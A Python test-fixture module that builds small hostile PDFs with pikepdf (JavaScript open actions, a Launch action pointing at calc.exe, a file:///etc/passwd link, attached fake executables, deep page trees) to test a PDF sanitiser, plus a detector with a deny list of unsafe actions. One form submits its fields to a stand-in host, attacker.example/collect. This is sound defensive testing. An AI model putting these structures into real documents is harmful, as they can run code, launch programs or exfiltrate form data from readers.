"""PDFs that try something, built with pikepdf, and the walk that looks for what they tried.

Each builder returns the bytes of a small PDF whose one page reads "Appendix text", so
a test can tell the page survived cleaning.
"""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

PAGE_TEXT = "Appendix text"


def _pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 720 Td ({PAGE_TEXT}) Tj ET".encode())
    return pdf


def _bytes(pdf: pikepdf.Pdf, **options) -> bytes:
    output = io.BytesIO()
    pdf.save(output, **options)
    return output.getvalue()


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 730]), A=action
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def with_javascript() -> bytes:
    """Script on opening the document, on opening its page, and in the document's names."""
    pdf = _pdf()
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('opened')"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('bye')")))
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.beep(0)")))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(script)]))
    )
    _link(pdf, Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))
    return _bytes(pdf)


def with_launch() -> bytes:
    """A link that starts a program, and one to a file on the reader's computer."""
    pdf = _pdf()
    _link(pdf, Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))
    pdf.pages[0].obj.Annots.append(
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([72, 600, 300, 630]),
                A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
            )
        )
    )
    return _bytes(pdf)


def with_embedded_file() -> bytes:
    """An executable attached to the document and to its page."""
    pdf = _pdf()
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really")
    attached = pdf.make_stream(b"MZ\x90\x00 again", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=attached))
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([72, 700, 100, 730]),
                    FS=spec,
                )
            )
        ]
    )
    return _bytes(pdf)


def with_submit_form() -> bytes:
    """A form whose button sends its fields away and clears them, with an XFA form too."""
    pdf = _pdf()
    button = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([72, 700, 200, 730]),
            A=Dictionary(
                S=Name.SubmitForm,
                F=Dictionary(FS=Name.URL, F=String("https://attacker.example/collect")),
                Next=Dictionary(S=Name.ResetForm),
            ),
            AA=Dictionary(D=Dictionary(S=Name.ImportData, F=String("data.fdf"))),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = Array([button])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([button]), XFA=pdf.make_stream(b"<xdp:xdp>script</xdp:xdp>")
    )
    return _bytes(pdf)


def encrypted() -> bytes:
    pdf = _pdf()
    return _bytes(pdf, encryption=pikepdf.Encryption(owner="owner", user="user", aes=True, R=6))


def deep_page_tree(depth: int = 3000) -> bytes:
    """One page under ``depth`` levels of /Pages nodes."""
    pdf = _pdf()
    page = pdf.pages[0].obj
    parent = pdf.Root.Pages
    parent.Kids = Array([])
    for _ in range(depth):
        child = pdf.make_indirect(
            Dictionary(Type=Name.Pages, Kids=Array([]), Count=1, Parent=parent)
        )
        parent.Kids.append(child)
        parent = child
    parent.Kids.append(page)
    page.Parent = parent
    return _bytes(pdf)


def malformed_annotations() -> bytes:
    """Page annotations that are not an array, and an array holding a number."""
    pdf = _pdf(pages=2)
    pdf.pages[0].obj.Annots = Dictionary(Subtype=Name.Text, Rect=Array([0, 0, 10, 10]))
    pdf.pages[1].obj.Annots = Array([7, String("not an annotation")])
    return _bytes(pdf)


def many_pages(pages: int) -> bytes:
    """``pages`` pages that are one page named again and again: a few kilobytes."""
    pdf = _pdf()
    page = pdf.pages[0].obj
    pdf.Root.Pages.Kids = Array([page] * pages)
    pdf.Root.Pages.Count = pages
    return _bytes(pdf)


DANGEROUS = {
    "javascript": with_javascript,
    "launch": with_launch,
    "embedded file": with_embedded_file,
    "form submit": with_submit_form,
}
BROKEN = {
    "encrypted": encrypted,
    "deep page tree": deep_page_tree,
    "malformed annotations": malformed_annotations,
}

UNSAFE_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ResetForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
}


def dangers(content: bytes) -> list[str]:
    """Everything in the PDF that acts on its own or carries a file, found by walking
    every object in it; empty for a safe file."""
    found = []
    with pikepdf.open(io.BytesIO(content)) as pdf:
        names = pdf.Root.get("/Names", Dictionary())
        for key in ("/JavaScript", "/EmbeddedFiles"):
            if key in names:
                found.append(f"names {key}")
        for key in ("/OpenAction", "/AA"):
            if key in pdf.Root:
                found.append(f"document {key}")
        if "/XFA" in pdf.Root.get("/AcroForm", Dictionary()):
            found.append("XFA form")
        for item in pdf.objects:
            found += _dangers_in(item)
    return found


def _dangers_in(top) -> list[str]:
    found, stack = [], [top]
    while stack:
        item = stack.pop()
        if isinstance(item, (Dictionary, pikepdf.Stream)):
            kind = item.get("/S")
            if str(kind) in UNSAFE_ACTIONS:
                found.append(f"action {kind}")
            if kind == Name.URI and not str(item.get("/URI", "")).startswith("http"):
                found.append(f"link to {item.get('/URI')}")
            for key in ("/AA", "/JS", "/EF"):
                if key in item:
                    found.append(f"key {key}")
            if item.get("/Type") == Name.EmbeddedFile:
                found.append("embedded file stream")
            if item.get("/Subtype") == Name.FileAttachment:
                found.append("file attachment annotation")
            children = [value for _, value in item.items()]
        elif isinstance(item, Array):
            children = list(item)
        else:
            continue
        stack += [c for c in children if isinstance(c, (Dictionary, Array)) and not c.is_indirect]
    return found
